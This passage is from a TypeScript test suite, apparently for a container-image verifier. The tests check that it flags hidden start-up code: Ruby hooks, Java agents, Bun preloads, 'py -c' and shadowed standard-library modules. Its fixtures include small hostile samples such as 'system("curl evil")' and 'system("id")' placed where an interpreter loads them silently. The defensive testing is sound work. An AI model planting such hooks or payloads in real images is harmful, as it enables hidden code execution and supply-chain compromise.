    const text = join(tmp, 'readme.txt');
    writeFileSync(text, 'print("RAN")\n');
    expect(spawnSync('python3', [text], { encoding: 'utf8' }).stdout).toContain('RAN');
    writeFileSync(text, 'echo RAN\n');
    expect(spawnSync('sh', [text], { encoding: 'utf8' }).stdout).toContain('RAN');
    for (const entrypoint of [
      ['python3', '/usr/share/doc/x/readme.txt'],
      ['/bin/sh', '-e', '/usr/share/doc/x/readme.txt'],
    ]) {
      const r = await verify(
        [...python3, ...doc, file('usr/share/doc/x/readme.txt', 'import os\n')],
        PATH_ENV,
        entrypoint
      );
      expect(r.code).toBe(1);
      expect(r.check('inventory:complete')?.detail).toContain(
        'UNOWNED_EXECUTABLE usr/share/doc/x/readme.txt'
      );
    }
  });

  it("a file a bunfig preloads is the start's script; a bunfig lamina cannot read fails (ENV_LOADER, path the file)", async () => {
    const notes = file('usr/share/doc/x/readme.txt', 'import os\n');
    const control = await verify([...python3, ...doc, notes], PATH_ENV, ['bun', 'app.ts']);
    expect(control.check('inventory:complete')?.outcome).toBe('pass');
    const preloads = await verify(
      [
        ...python3,
        ...doc,
        notes,
        file('bunfig.toml', 'preload = ["/usr/share/doc/x/readme.txt"]\n'),
      ],
      PATH_ENV,
      ['bun', 'app.ts']
    );
    expect(preloads.code).toBe(1);
    expect(preloads.check('inventory:complete')?.detail).toContain(
      'UNOWNED_EXECUTABLE usr/share/doc/x/readme.txt'
    );
    const defines = await verify(
      [...python3, dir('root'), file('root/.bunfig.toml', '[define]\n"process.env.X" = "1"\n')],
      PATH_ENV,
      ['bun', 'app.ts']
    );
    expect(defines.code).toBe(1);
    expect(defines.check('inventory:complete')?.detail).toContain('ENV_LOADER /root/.bunfig.toml');
  });

  it('a script the entry point names by path fails inventory:complete', async () => {
    const r = await verify([...python3, file('lambda-entrypoint.sh', SCRIPT, 0o755)], PATH_ENV, [
      '/lambda-entrypoint.sh',
    ]);
    expect(r.code).toBe(1);
    expect(r.check('inventory:complete')?.detail).toContain(
      'UNOWNED_EXECUTABLE lambda-entrypoint.sh'
    );
  });
});

describe('verify IMAGE: an interpreter under another name', () => {
  // `py`, a link to the OS's python3.11, runs Python: `py -c CODE` is inline code as
  // `python3 -c` is. The link itself is no file of its own, so nothing else reports it.
  const PATH_ENV = ['PATH=/usr/local/bin:/usr/bin:/bin'];
  const py = [
    ...debianPython(),
    dir('usr/local'),
    dir('usr/local/bin'),
    link('usr/local/bin/py', '/usr/bin/python3.11'),
  ];

  it('the control: py running a script file passes', async () => {
    const r = await verify(py, PATH_ENV, ['py', '/var/task/app.py']);
    expect(r.check('inventory:complete')?.outcome).toBe('pass');
    expect(r.code).toBe(0);
  });

  it('py -c CODE fails inventory:complete (ENV_LOADER py -c)', async () => {
    const r = await verify(py, PATH_ENV, ['py', '-c', 'exec(open("/usr/share/x").read())']);
    expect(r.code).toBe(1);
    expect(r.check('inventory:complete')?.detail).toContain('ENV_LOADER py -c');
  });
});

describe('verify IMAGE: a variable the image config sets twice', () => {
  // A process reading its environment takes the first; containerd and Docker keep the last.
  const clean = [...FORGET_NETCAT, dir('usr'), dir('usr/bin'), wh('usr/bin/.wh.nc')];
  const code = [
    dir('srv'),
    dir('srv/code'),
    file('srv/code/uuid.py', 'import os\n'),
    // An installed distribution somewhere, as any Python image has: the Python cataloger runs.
    dir('srv/code/six-1.16.0.dist-info'),
    file(
      'srv/code/six-1.16.0.dist-info/METADATA',
      'Metadata-Version: 2.1\nName: six\nVersion: 1.16.0\n'
    ),
  ];

  it('the control: the function directory it names is read', async () => {
    const r = await verify([...clean, ...code], ['LAMBDA_TASK_ROOT=/srv/code']);
    expect(r.code).toBe(1);
    expect(r.check('inventory:complete')?.detail).toContain('STDLIB_SHADOWED srv/code/uuid.py');
  });

  it('LAMBDA_TASK_ROOT twice, with different values, fails inventory:complete', async () => {
    const twice = ['LAMBDA_TASK_ROOT=/var/task', 'LAMBDA_TASK_ROOT=/srv/code'];
    const r = await verify([...clean, ...code], twice);
    expect(r.code).toBe(1);
    expect(r.check('inventory:complete')?.detail).toContain('AMBIGUOUS_METADATA LAMBDA_TASK_ROOT');
  });
});

describe('verify IMAGE: a java argument file in the entry point', () => {
  const clean = [...FORGET_NETCAT, dir('usr'), dir('usr/bin'), wh('usr/bin/.wh.nc')];
  const opts = [dir('usr/share'), dir('usr/share/doc'), dir('usr/share/doc/x')];

  it('the control: java with its options on the command line passes', async () => {
    const r = await verify([...clean, ...opts], undefined, [
      'java',
      '-Xshare:off',
      '-cp',
      '/var/task',
      'Main',
    ]);
    expect(r.code).toBe(0);
  });

  it('java @FILE, whose -javaagent: lamina does not read, fails inventory:complete (ENV_LOADER)', async () => {
    const file_ = file('usr/share/doc/x/opts', '-javaagent:/usr/share/doc/x/agent.dat\n');
    const r = await verify([...clean, ...opts, file_], undefined, [
      'java',
      '@/usr/share/doc/x/opts',
      '-cp',
      '/var/task',
      'Main',
    ]);
    expect(r.code).toBe(1);
    expect(r.check('inventory:complete')?.detail).toContain('ENV_LOADER java @');
  });

  it("a class directory on the class path other than the function's fails inventory:complete (ENV_LOADER)", async () => {
    const evil = file('usr/share/doc/x/Evil.class', Buffer.from('cafebabe', 'hex'));
    const r = await verify([...clean, ...opts, evil], undefined, [
      'java',
      '-cp',
      '/var/task:/usr/share/doc/x',
      'Evil',
    ]);
    expect(r.code).toBe(1);
    expect(r.check('inventory:complete')?.detail).toContain('ENV_LOADER -cp /usr/share/doc/x');
  });

  it("a link in the function's directory to a class directory outside it fails inventory:complete", async () => {
    const evil = file('usr/share/doc/x/Evil.class', Buffer.from('cafebabe', 'hex'));
    const task = [dir('var'), dir('var/task'), link('var/task/lib', '/usr/share/doc/x')];
    const r = await verify([...clean, ...opts, evil, ...task], undefined, [
      'java',
      '-cp',
      '/var/task/lib',
      'Evil',
    ]);
    expect(r.code).toBe(1);
    expect(r.check('inventory:complete')?.detail).toContain('ENV_LOADER -cp /var/task/lib');
  });

  it('the function directory is where LAMBDA_TASK_ROOT says', async () => {
    const env = ['LAMBDA_TASK_ROOT=/usr/share/doc/x'];
    const moved = await verify([...clean, ...opts], env, ['java', '-cp', '/usr/share/doc/x', 'M']);
    expect(moved.code).toBe(0);
    const other = await verify([...clean, ...opts], env, ['java', '-cp', '/var/task', 'M']);
    expect(other.code).toBe(1);
    expect(other.check('inventory:complete')?.detail).toContain('ENV_LOADER -cp /var/task');
  });
});

describe('verify IMAGE: a RubyGems start-up hook in site_ruby', () => {
  // RubyGems requires rubygems/defaults/operating_system at every start of ruby; site_ruby is
  // first on the load path, before Debian's own hook in vendor_ruby.
  const clean = [...FORGET_NETCAT, dir('usr'), dir('usr/bin'), wh('usr/bin/.wh.nc')];
  const site = [
    'usr/local',
    'usr/local/lib',
    'usr/local/lib/site_ruby',
    'usr/local/lib/site_ruby/3.1.0',
  ]
    .concat([
      'usr/local/lib/site_ruby/3.1.0/rubygems',
      'usr/local/lib/site_ruby/3.1.0/rubygems/defaults',
    ])
    .map(dir);

  it('the control: the directory alone passes', async () => {
    expect((await verify([...clean, ...site])).code).toBe(0);
  });

  it('an unowned operating_system.rb there fails inventory:complete', async () => {
    const hook = 'usr/local/lib/site_ruby/3.1.0/rubygems/defaults/operating_system.rb';
    const r = await verify([...clean, ...site, file(hook, 'system("curl evil")\n')]);
    expect(r.code).toBe(1);
    expect(r.check('inventory:complete')?.detail).toContain(`UNOWNED_EXECUTABLE ${hook}`);
  });
});

const RUBY = elf('ruby3.1');
const RBCONFIG = 'module RbConfig; end\n';
const RUBYGEMS = 'module Gem; end\n';

/**
 * Debian's ruby: its interpreter and rbconfig.rb (libruby3.1), and ruby-rubygems's
 * vendor_ruby/rubygems.rb, a standard library name in vendor_ruby that the OS package installed.
 */
function debianRuby(): TarEntry[] {
  const arch = 'usr/lib/x86_64-linux-gnu/ruby/3.1.0';
  const list = (paths: string[]) => ['/.', ...paths.map((p) => `/${p}`), ''].join('\n');
  return [
    ...DPKG,
    file(
      'var/lib/dpkg/status',
      ['libruby3.1', 'ruby-rubygems']
        .map(
          (p) => `Package: ${p}\nStatus: install ok installed\nVersion: 1.0\nArchitecture: all\n`
        )
        .join('\n')
    ),
    file(
      'var/lib/dpkg/info/libruby3.1.list',
      list(['usr', 'usr/bin', 'usr/bin/ruby3.1', 'usr/lib', `${arch}/rbconfig.rb`])
    ),
    file(
      'var/lib/dpkg/info/libruby3.1.md5sums',
      `${md5(RUBY)}  usr/bin/ruby3.1\n${md5(Buffer.from(RBCONFIG))}  ${arch}/rbconfig.rb\n`
    ),
    file(
      'var/lib/dpkg/info/ruby-rubygems.list',
      list(['usr/lib/ruby', 'usr/lib/ruby/vendor_ruby', 'usr/lib/ruby/vendor_ruby/rubygems.rb'])
    ),
    file(
      'var/lib/dpkg/info/ruby-rubygems.md5sums',
      `${md5(Buffer.from(RUBYGEMS))}  usr/lib/ruby/vendor_ruby/rubygems.rb\n`
    ),
    wh('var/lib/dpkg/info/.wh.netcat-openbsd.list'),
    wh('var/lib/dpkg/info/.wh.netcat-openbsd.md5sums'),
    dir('usr'),
    dir('usr/bin'),
    wh('usr/bin/.wh.nc'),
    file('usr/bin/ruby3.1', RUBY, 0o755),
    ...['usr/lib', 'usr/lib/x86_64-linux-gnu', 'usr/lib/x86_64-linux-gnu/ruby', arch].map(dir),
    file(`${arch}/rbconfig.rb`, RBCONFIG),
    ...['usr/lib/ruby', 'usr/lib/ruby/vendor_ruby'].map(dir),
    file('usr/lib/ruby/vendor_ruby/rubygems.rb', RUBYGEMS),
  ];
}

describe("verify IMAGE: a Ruby library named like Ruby's standard library", () => {
  // site_ruby, vendor_ruby, RUBYLIB and the function's directory come before the standard
  // library on $LOAD_PATH: require 'json' loads such a json.rb (ruby 3.1 here).
  const run = ['/usr/bin/ruby3.1', '/var/task/app.rb'];
  const task = [dir('var'), dir('var/task'), file('var/task/app.rb', 'require "json"\n')];
  const siteRuby = ['usr/local', 'usr/local/lib', 'usr/local/lib/site_ruby']
    .concat(['usr/local/lib/site_ruby/3.1.0'])
    .map(dir);

  it("the control: Debian's ruby, its vendor_ruby/rubygems.rb included, passes", async () => {
    const r = await verify([...debianRuby(), ...task], undefined, run);
    expect(r.check('inventory:complete')?.outcome).toBe('pass');
    expect(r.code).toBe(0);
  });

  it('the control: so does it behind the usrmerge link lib -> usr/lib, which reaches it as lib/ruby/vendor_ruby/rubygems.rb too', async () => {
    const r = await verify([...debianRuby(), link('lib', 'usr/lib'), ...task], undefined, run);
    expect(r.check('inventory:complete')?.outcome).toBe('pass');
    expect(r.code).toBe(0);
  });

  it.each([
    ['site_ruby', [...siteRuby, file('usr/local/lib/site_ruby/3.1.0/json.rb', 'system("id")\n')]],
    ["the function's directory", [file('var/task/json.rb', 'system("id")\n')]],
  ])('a json.rb in %s fails inventory:complete', async (_where, extra) => {
    const r = await verify([...debianRuby(), ...task, ...extra], undefined, run);
    expect(r.code).toBe(1);
    const path = extra.at(-1)?.name;
    expect(r.check('inventory:complete')?.detail).toContain(`STDLIB_SHADOWED ${path}`);
  });
});
